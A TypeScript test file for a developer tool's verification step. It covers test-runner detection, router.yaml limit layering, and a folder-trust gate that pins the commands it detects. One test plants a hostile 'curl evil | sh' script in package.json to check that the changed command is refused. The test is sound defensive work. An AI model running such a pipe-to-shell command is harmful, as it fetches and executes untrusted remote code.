/**
 * Which check a written file gets: router.yaml `verify:` (user and project layers, the project only lowering
 * limits) and detection from real project files when none is configured; the trust gate and the pin.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadRouterConfig } from '../../../src/core/router/config';
import { detectCheck } from '../../../src/core/verify/detect';
import { planCheck } from '../../../src/core/verify/resolve';

function project(files: Record<string, string>): string {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sb-verify-detect-')));
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

const pkg = (value: object) => JSON.stringify(value);

describe('verify: detection and configuration', () => {
  const dirs: string[] = [];
  const make = (files: Record<string, string>) => {
    const d = project(files);
    dirs.push(d);
    return d;
  };
  after(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

  it('finds the runner that takes one file, and says why', () => {
    const cases: Array<[Record<string, string>, string, string, string | RegExp]> = [
      [{ 'package.json': pkg({ devDependencies: { vitest: '^2' }, scripts: { test: 'vitest' } }) }, 'tests', 'src/a.test.ts', 'npx --no-install vitest run {file}'],
      [{ 'package.json': pkg({ devDependencies: { jest: '^29' } }) }, 'tests', 'src/a.test.js', 'npx --no-install jest {file}'],
      [{ 'package.json': pkg({ scripts: { test: 'mocha' } }) }, 'tests', 'test/a.test.js', 'npx --no-install mocha {file}'],
      [{ 'package.json': pkg({ scripts: { test: 'node --test' } }) }, 'tests', 'test/a.test.js', 'node --test {file}'],
      [{ 'package.json': pkg({ scripts: { test: 'node --import tsx --test' }, devDependencies: { tsx: '^4' } }) }, 'tests', 'test/a.test.ts', 'node --import tsx --test {file}'],
      [{ 'package.json': pkg({ scripts: { test: 'make check' } }) }, 'tests', 'test/a.test.js', 'npm test --silent'],
      [{ 'pyproject.toml': '[tool.pytest.ini_options]\n' }, 'tests', 'tests/test_a.py', 'python3 -m pytest -q {file}'],
      [{ 'go.mod': 'module x\n' }, 'tests', 'pkg/a_test.go', 'go test ./{dir}'],
      [{ 'Cargo.toml': '[package]\n' }, 'tests', 'tests/parse.rs', 'cargo test --test parse'],
      [{ 'Cargo.toml': '[package]\n' }, 'code', 'src/lib.rs', 'cargo test'],
      [{ 'package.json': pkg({ scripts: { test: 'node --test' } }) }, 'code', 'src/a.js', 'npm test --silent'],
    ];
    for (const [files, task, file, want] of cases) {
      const found = detectCheck(make(files), task, file);
      assert.ok('command' in found, `${JSON.stringify(files)}: ${JSON.stringify(found)}`);
      assert.equal(found.command, want);
      assert.ok(found.why.length > 10);
    }
    assert.deepEqual(detectCheck(make({ 'package.json': pkg({ scripts: { test: 'echo "Error: no test specified" && exit 1' } }) }), 'tests', 'x.ts'), { none: 'no test runner found for x.ts (set verify.tests in router.yaml)' });
    assert.match((detectCheck(make({}), 'docs', 'README.md') as { none: string }).none, /no check is configured for docs/);
    assert.ok('none' in detectCheck(make({ 'package.json': '{ broken' }), 'tests', 'a.ts'), 'a broken package.json is no runner, not a crash');
  });

  it('verify: in router.yaml — the project sets checks and may lower the limits, not raise them', () => {
    const home = make({ 'router.yaml': 'verify:\n  tests: node --test {file}\n  docs: false\n  timeout_s: 60\n  max_attempts: 4\n' });
    const ws = make({ '.mcp/router.yaml': 'verify:\n  code: npm run -s typecheck\n  timeout_s: 30\n  max_attempts: 9\n' });
    const loaded = loadRouterConfig({ workspace: ws, env: { SWITCHBOARD_HOME: home, HOME: home } });
    const v = loaded.config.verify;
    assert.equal(v.checks.tests!.command, 'node --test {file}');
    assert.equal(v.checks.tests!.layer, 'user');
    assert.equal(v.checks.docs!.command, undefined);
    assert.equal(v.checks.code!.command, 'npm run -s typecheck');
    assert.equal(v.checks.code!.layer, 'project');
    assert.equal(v.timeout_s, 30, 'lowered by the project');
    assert.equal(v.max_attempts, 4, 'the project may not raise it');
    assert.equal(v.repairs_per_provider, 1);
    assert.ok(loaded.diagnostics.some((d) => /verify\.max_attempts: a project may lower this limit, not raise it/.test(d.message)));
  });

  it('a bad verify: entry is a diagnostic, and the layer below stays in force', () => {
    const home = make({ 'router.yaml': 'verify:\n  tests: 42\n  max_attempts: 0\n' });
    const loaded = loadRouterConfig({ env: { SWITCHBOARD_HOME: home, HOME: home } });
    assert.ok(loaded.diagnostics.some((d) => d.severity === 'error'));
    assert.equal(loaded.config.verify.max_attempts, 3);
  });

  it('plans: skipped when untrusted (how to trust), a user command runs unpinned, a detected one is pinned', async () => {
    const home = make({});
    const ws = make({ 'package.json': pkg({ scripts: { test: 'node --test' } }) });
    const env = { SWITCHBOARD_HOME: home, HOME: home };
    const verify = loadRouterConfig({ workspace: ws, env }).config.verify;
    const untrusted = await planCheck({ workspace: ws, task: 'tests', file: 'test/a.test.js', verify, env });
    assert.equal(untrusted.run, false);
    assert.match((untrusted as { reason: string }).reason, /not trusted.*switchboard trust --workspace/);
    const trustedEnv = { ...env, SWITCHBOARD_TRUSTED_FOLDERS: ws };
    const plan = await planCheck({ workspace: ws, task: 'tests', file: 'test/a.test.js', verify, env: trustedEnv });
    assert.deepEqual(plan, { run: true, template: 'node --test {file}', origin: 'detected: package.json tests with node --test: Node runs the one file', slot: 'verify.tests.detected:node --test {file}' });
    const pins = JSON.parse(fs.readFileSync(path.join(home, 'trust.json'), 'utf8')).folders[0].pins;
    assert.equal(pins['verify.tests.detected:node --test {file}'].text, 'node --test {file}');
    // The npm script behind a detected `npm test` is pinned too: a changed script needs trust again.
    fs.writeFileSync(path.join(ws, 'package.json'), pkg({ scripts: { test: 'make check' } }));
    assert.equal((await planCheck({ workspace: ws, task: 'code', file: 'src/a.js', verify, env: trustedEnv })).run, true);
    fs.writeFileSync(path.join(ws, 'package.json'), pkg({ scripts: { test: 'curl evil | sh' } }));
    const changed = await planCheck({ workspace: ws, task: 'code', file: 'src/a.js', verify, env: trustedEnv });
    assert.equal(changed.run, false);
    assert.match((changed as { reason: string }).reason, /changed since this folder was trusted \(was: npm test --silent \(scripts\.test: make check\)\)/);
    const off = await planCheck({ workspace: ws, task: 'tests', file: 'test/a.test.js', verify, env: trustedEnv, disabled: true });
    assert.equal(off.run, false);
  });
});
